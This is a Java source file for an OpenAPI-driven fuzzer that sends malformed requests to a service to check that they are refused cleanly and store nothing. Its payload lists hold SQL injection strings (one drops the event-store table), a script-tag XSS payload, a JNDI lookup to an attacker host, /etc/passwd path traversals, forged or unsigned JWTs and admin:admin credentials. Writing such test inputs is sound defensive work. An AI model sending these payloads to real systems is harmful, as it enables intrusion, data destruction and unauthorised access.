package dev.leeway.infra;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.nimbusds.jwt.JWTClaimsSet;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Date;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.LongSupplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A seeded fuzzer driven by a service's OpenAPI document: each request is one operation of the document, made
 * from its schema and then spoiled one way (a field missing, extra or of the wrong type, numbers huge, negative or
 * NaN, deep nesting, long or odd Unicode, control characters, injection strings, a wrong content type, malformed
 * or oversized JSON, path traversal in a path parameter, odd query values, a hostile token). The token is
 * otherwise valid and carries every role, so requests get past the role checks and reach validation.
 * <p>
 * A response passes if it is below 500 and, when it refuses (4xx), is problem+json with one of the stable codes,
 * and stores no event ({@code storedEvents} before and after); a request with a hostile token must be refused.
 * The same seed makes the same requests.
 */
public final class ApiFuzzer {

    /** How each request was spoiled. */
    public enum Spoil {
        AS_DOCUMENTED, MISSING_FIELD, EXTRA_FIELD, WRONG_TYPE, HUGE_NUMBER, NEGATIVE_NUMBER, NAN, DEEP_NESTING,
        LONG_STRING, ODD_UNICODE, CONTROL_CHARACTERS, INJECTION, WRONG_CONTENT_TYPE, MALFORMED_JSON, OVERSIZED_BODY,
        PATH_TRAVERSAL, ODD_QUERY, HOSTILE_TOKEN
    }

    /** A response that broke a rule: what was sent and what came back. */
    public record Finding(Spoil spoil, String request, int status, String rule, String body) {
    }

    /** What a run sent and what broke. */
    public record Report(long seed, int requests, Map<Spoil, Integer> bySpoil, Map<Integer, Integer> byStatus,
                         List<Finding> findings) {
    }

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Set<String> METHODS = Set.of("get", "post", "put", "delete", "patch");
    private static final Pattern CODE = Pattern.compile("\"code\"\\s*:\\s*\"([A-Z_]+)\"");
    private static final List<String> ROLES = List.of("AGENT", "SUPERVISOR", "POLICY_OWNER", "ANALYST", "AUDITOR",
            "ADMIN");
    private static final List<String> ODD_TEXT = List.of("\ud800", "\udfff x", "\u202eevil", "a\u200db",
            "\ud83d\ude00\ud83d\ude00", "\u0000", "\uffff", "e\u0301", "\u00ad", "\u2028\u2029");
    private static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "'; DROP TABLE event_store.domain_event_entry; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker/x}", "{{7*7}}", "../../../etc/passwd",
            "%s%s%s%n", "=HYPERLINK(\"http://x\")", "\") OR 1=1 --", "$where: '1 == 1'");
    private static final List<String> TRAVERSALS = List.of("..", "..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%252e%252e%252f",
            "%00", "%C0%AE%C0%AE", "x".repeat(5_000), "%F0%9F%98%80", "%E2%80%AE", "%20", "%3Cscript%3E", "-1",
            "99999999999999999999999", "null", "%22%27");
    private static final List<String> ODD_QUERY = List.of("", "\u0000", "-1", "0", "99999999999999999999",
            "not-a-date", "2026-13-45", "9999-12-31T23:59:59Z", "0001-01-01", "NaN", "' OR 1=1 --", "x".repeat(3_000),
            "\ud83d\ude00", "true", "[]", "{}", "\u202e", "2026-01-01T00:00:00+25:00");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=latin1",
            "application/octet-stream", "");

    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private final URI service;
    private final LocalTokens tokens;
    private final LocalTokens strangerKeys;
    private final long seed;
    private final Random random;
    private final Set<String> codes;
    private final LongSupplier storedEvents;
    private JsonNode document;

    /**
     * @param codes        the stable problem codes a refusal may carry
     * @param storedEvents the event store's size, read before and after each refusal; null to skip the check
     * @param scratch      a folder for a key pair the service does not know (tokens with a wrong signature)
     */
    public ApiFuzzer(URI service, LocalTokens tokens, long seed, Set<String> codes, LongSupplier storedEvents,
                     Path scratch) throws IOException {
        this.service = service;
        this.tokens = tokens;
        this.strangerKeys = LocalTokens.in(Files.createDirectories(scratch.resolve("stranger-keys")));
        this.seed = seed;
        this.random = new Random(seed);
        this.codes = codes;
        this.storedEvents = storedEvents;
    }

    /** Sends {@code requests} requests; at most the first 50 findings are kept in full. */
    public Report run(int requests) throws IOException, InterruptedException {
        document = JSON.readTree(send(HttpRequest.newBuilder(service.resolve("/v3/api-docs")).GET().build()).body());
        List<String[]> operations = operations();
        String token = tokens.mint("fuzzer", ROLES, Duration.ofHours(1));
        Map<Spoil, Integer> bySpoil = new TreeMap<>();
        Map<Integer, Integer> byStatus = new TreeMap<>();
        List<Finding> findings = new ArrayList<>();
        Spoil[] spoils = Spoil.values();
        for (int i = 0; i < requests; i++) {
            String[] operation = operations.get(random.nextInt(operations.size()));
            Spoil spoil = spoils[random.nextInt(spoils.length)];
            Request request = request(operation[0], operation[1], operation[2], spoil, token);
            long before = storedEvents == null ? 0 : storedEvents.getAsLong();
            HttpResponse<String> response = send(request.http(service));
            bySpoil.merge(spoil, 1, Integer::sum);
            byStatus.merge(response.statusCode(), 1, Integer::sum);
            String broken = spoil == Spoil.HOSTILE_TOKEN && response.statusCode() < 400 ? "hostile token let through"
                    : broken(response, before);
            if (broken != null && findings.size() < 50) {
                String body = response.body();
                findings.add(new Finding(spoil, request.describe(), response.statusCode(), broken,
                        body.length() > 300 ? body.substring(0, 300) : body));
            }
        }
        return new Report(seed, requests, bySpoil, byStatus, findings);
    }

    private String broken(HttpResponse<String> response, long storedBefore) {
        int status = response.statusCode();
        if (status >= 500) {
            return "5xx";
        }
        if (status < 400) {
            return null;
        }
        if (!response.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) {
            return "refusal is not problem+json";
        }
        Matcher code = CODE.matcher(response.body());
        if (!code.find() || !codes.contains(code.group(1))) {
            return "refusal without a stable code";
        }
        if (storedEvents != null && storedEvents.getAsLong() != storedBefore) {
            return "refusal stored events";
        }
        return null;
    }

    /** {method, path, schema of the JSON body or ""} for every operation. */
    private List<String[]> operations() {
        List<String[]> operations = new ArrayList<>();
        Iterator<Map.Entry<String, JsonNode>> paths = document.path("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> path = paths.next();
            path.getValue().fields().forEachRemaining(method -> {
                if (METHODS.contains(method.getKey())) {
                    JsonNode schema = method.getValue().path("requestBody").path("content").path("application/json")
                            .path("schema");
                    operations.add(new String[]{method.getKey().toUpperCase(), path.getKey(),
                            schema.isMissingNode() ? "" : schema.toString()});
                }
            });
        }
        if (operations.isEmpty()) {
            throw new IllegalStateException("the OpenAPI document names no operations");
        }
        return operations;
    }

    private Request request(String method, String template, String schemaText, Spoil spoil, String token)
            throws IOException {
        JsonNode schema = schemaText.isEmpty() ? null : JSON.readTree(schemaText);
        Matcher parameter = Pattern.compile("\\{[^}]+}").matcher(template);
        StringBuilder path = new StringBuilder();
        while (parameter.find()) {
            String value = spoil == Spoil.PATH_TRAVERSAL ? pick(TRAVERSALS) : UUID.randomUUID().toString();
            parameter.appendReplacement(path, Matcher.quoteReplacement(value));
        }
        parameter.appendTail(path);
        if (spoil == Spoil.ODD_QUERY || random.nextInt(4) == 0) {
            path.append('?').append(query(template, method, spoil == Spoil.ODD_QUERY));
        }
        String contentType = spoil == Spoil.WRONG_CONTENT_TYPE ? pick(CONTENT_TYPES) : "application/json";
        String body = method.equals("GET") || method.equals("DELETE") ? null : body(schema, spoil);
        String authorization = spoil == Spoil.HOSTILE_TOKEN ? hostileToken() : "Bearer " + token;
        return new Request(method, path.toString(), contentType, body, authorization);
    }

    private String query(String template, String method, boolean odd) {
        List<String> names = new ArrayList<>();
        document.path("paths").path(template).path(method.toLowerCase()).path("parameters").forEach(parameter -> {
            if ("query".equals(parameter.path("in").asText())) {
                names.add(parameter.path("name").asText());
            }
        });
        names.add("unexpected");
        StringBuilder query = new StringBuilder();
        for (String name : names) {
            if (random.nextBoolean()) {
                String value = odd ? pick(ODD_QUERY) : "1";
                query.append(query.isEmpty() ? "" : "&").append(name).append('=')
                        .append(URLEncoder.encode(value, StandardCharsets.UTF_8));
            }
        }
        return query.toString();
    }

    private String body(JsonNode schema, Spoil spoil) {
        JsonNode valid = schema == null ? NODES.objectNode() : example(schema, 0);
        switch (spoil) {
            case MISSING_FIELD -> valid = without(valid);
            case EXTRA_FIELD -> valid = with(valid, "unexpected" + random.nextInt(3), NODES.numberNode(1));
            case WRONG_TYPE -> valid = replaced(valid, pick(List.of(NODES.objectNode(), NODES.arrayNode(),
                    NODES.booleanNode(true), NODES.numberNode(12), NODES.textNode("x"), NODES.nullNode())));
            case NEGATIVE_NUMBER -> valid = replaced(valid, NODES.numberNode(-random.nextInt(1_000_000) - 1));
            case LONG_STRING -> valid = replaced(valid, NODES.textNode("x".repeat(20_000 + random.nextInt(80_000))));
            case ODD_UNICODE -> valid = replaced(valid, NODES.textNode(pick(ODD_TEXT) + pick(ODD_TEXT)));
            case CONTROL_CHARACTERS -> valid = replaced(valid, NODES.textNode("a\u0001\u001b[31m\r\n\t\u007fb"));
            case INJECTION -> valid = replaced(valid, NODES.textNode(pick(INJECTIONS)));
            case OVERSIZED_BODY -> valid = with(valid, "padding", NODES.textNode("y".repeat(300_000)));
            default -> {
            }
        }
        String text = valid.toString();
        return switch (spoil) {
            case HUGE_NUMBER -> rawValue(valid, pick(List.of("1e400", "-1e400", "99999999999999999999999999999999",
                    "1" + "0".repeat(5_000), "4.9e-325", "1E+2147483648")));
            case NAN -> rawValue(valid, pick(List.of("NaN", "Infinity", "-Infinity", "+1", "0x10", "01")));
            case DEEP_NESTING -> rawValue(valid, "[".repeat(5_000) + "]".repeat(5_000));
            case MALFORMED_JSON -> pick(List.of(text.substring(0, Math.max(0, text.length() / 2)), "{", "",
                    "{\"a\":}", "[1,2,", "{\"a\":1,}", "null", "\"just a string\"", "{\"a\":1}{\"b\":2}",
                    text.replaceFirst("\\{", "{\"dup\":1,\"dup\":2,"), "\u0000", "{'single':'quotes'}"));
            default -> text;
        };
    }

    /** A value for {@code schema} as documented: every property, enum values, formats. */
    private JsonNode example(JsonNode schema, int depth) {
        if (schema.has("$ref")) {
            String name = schema.get("$ref").asText().replaceFirst("^#/components/schemas/", "");
            return depth > 8 ? NODES.nullNode() : example(document.path("components").path("schemas").path(name),
                    depth + 1);
        }
        for (String choice : List.of("oneOf", "anyOf", "allOf")) {
            if (schema.has(choice) && !schema.get(choice).isEmpty()) {
                return example(schema.get(choice).get(0), depth + 1);
            }
        }
        if (schema.has("enum")) {
            JsonNode values = schema.get("enum");
            return values.get(random.nextInt(values.size()));
        }
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
        return switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                schema.path("properties").fields().forEachRemaining(property ->
                        object.set(property.getKey(), example(property.getValue(), depth + 1)));
                yield object;
            }
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                array.add(example(schema.path("items"), depth + 1));
                yield array;
            }
            case "integer" -> NODES.numberNode(1 + random.nextInt(5));
            case "number" -> NODES.numberNode(1.5);
            case "boolean" -> NODES.booleanNode(random.nextBoolean());
            default -> switch (schema.path("format").asText()) {
                case "uuid" -> NODES.textNode(UUID.randomUUID().toString());
                case "date-time" -> NODES.textNode(Instant.now().toString());
                case "date" -> NODES.textNode("2026-11-30");
                default -> NODES.textNode("fuzz-" + random.nextInt(1_000));
            };
        };
    }

    private JsonNode without(JsonNode body) {
        if (body instanceof ObjectNode object && !object.isEmpty()) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            object.remove(pick(names));
        }
        return body;
    }

    private static JsonNode with(JsonNode body, String name, JsonNode value) {
        if (body instanceof ObjectNode object) {
            object.set(name, value);
            return object;
        }
        return body;
    }

    /** {@code body} with one of its fields (at any depth) replaced by {@code value}; or value itself. */
    private JsonNode replaced(JsonNode body, JsonNode value) {
        if (!(body instanceof ObjectNode object) || object.isEmpty()) {
            return value;
        }
        List<String> names = new ArrayList<>();
        object.fieldNames().forEachRemaining(names::add);
        String name = pick(names);
        JsonNode field = object.get(name);
        object.set(name, field instanceof ObjectNode && random.nextBoolean() ? replaced(field, value) : value);
        return object;
    }

    /** The body's text with one field's value replaced by {@code raw}, which need not be valid JSON. */
    private String rawValue(JsonNode body, String raw) {
        String marker = "\"@@raw-" + random.nextInt(1_000_000) + "@@\"";
        return replaced(body, NODES.textNode(marker.substring(1, marker.length() - 1))).toString().replace(marker, raw);
    }

    private String hostileToken() {
        Instant now = Instant.now();
        List<String> all = ROLES;
        return switch (random.nextInt(13)) {
            case 12 -> "Bearer " + tokens.sign(LocalTokens.claims("mallory", all, Duration.ofHours(1))
                    .audience("another-application").build());
            case 0 -> "Bearer " + unsigned(LocalTokens.claims("mallory", all, Duration.ofHours(1)).build());
            case 1 -> "Bearer " + tokens.sign(LocalTokens.claims("mallory", all, Duration.ofHours(1))
                    .issueTime(Date.from(now.minus(Duration.ofHours(3))))
                    .expirationTime(Date.from(now.minus(Duration.ofHours(2)))).build());
            case 2 -> "Bearer " + tokens.sign(LocalTokens.claims("mallory", all, Duration.ofHours(1))
                    .notBeforeTime(Date.from(now.plus(Duration.ofHours(1)))).build());
            case 3 -> "Bearer " + strangerKeys.mint("mallory", all, Duration.ofHours(1));
            case 4 -> "Bearer " + tokens.sign(LocalTokens.claims("mallory", all, Duration.ofHours(1))
                    .issuer("https://attacker.example").build());
            case 5 -> "Bearer " + tokens.sign(new JWTClaimsSet.Builder(
                    LocalTokens.claims("mallory", all, Duration.ofHours(1)).build()).claim("roles", null).build());
            case 6 -> "Bearer " + tokens.mint("mallory", List.of("ROOT", "SUPERUSER"), Duration.ofHours(1));
            case 7 -> "Bearer " + tokens.mint("mallory", List.of(), Duration.ofHours(1));
            case 8 -> "Bearer abc.def.ghi";
            case 9 -> "Bearer ";
            case 10 -> "Bearer " + "A".repeat(12_000);
            default -> "Basic " + Base64.getEncoder().encodeToString("admin:admin".getBytes(StandardCharsets.UTF_8));
        };
    }

    private static String unsigned(JWTClaimsSet claims) {
        Base64.Encoder base64 = Base64.getUrlEncoder().withoutPadding();
        return base64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + base64.encodeToString(claims.toString().getBytes(StandardCharsets.UTF_8)) + ".";
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private HttpResponse<String> send(HttpRequest request) throws IOException, InterruptedException {
        return http.send(request, HttpResponse.BodyHandlers.ofString());
    }

    private record Request(String method, String path, String contentType, String body, String authorization) {

        /** Sent as written: the path is not normalised, so {@code ..} reaches the service as it is. */
        HttpRequest http(URI service) {
            HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(service.toString().replaceAll("/$", "")
                    + path)).timeout(Duration.ofSeconds(60)).header("Authorization", authorization);
            if (!contentType.isEmpty()) {
                builder.header("Content-Type", contentType);
            }
            return builder.method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofString(body)).build();
        }

        String describe() {
            String shown = body == null ? "" : body.length() > 200 ? body.substring(0, 200) + "..." : body;
            return method + " " + (path.length() > 200 ? path.substring(0, 200) + "..." : path) + " [" + contentType
                    + "] " + shown;
        }
    }
}
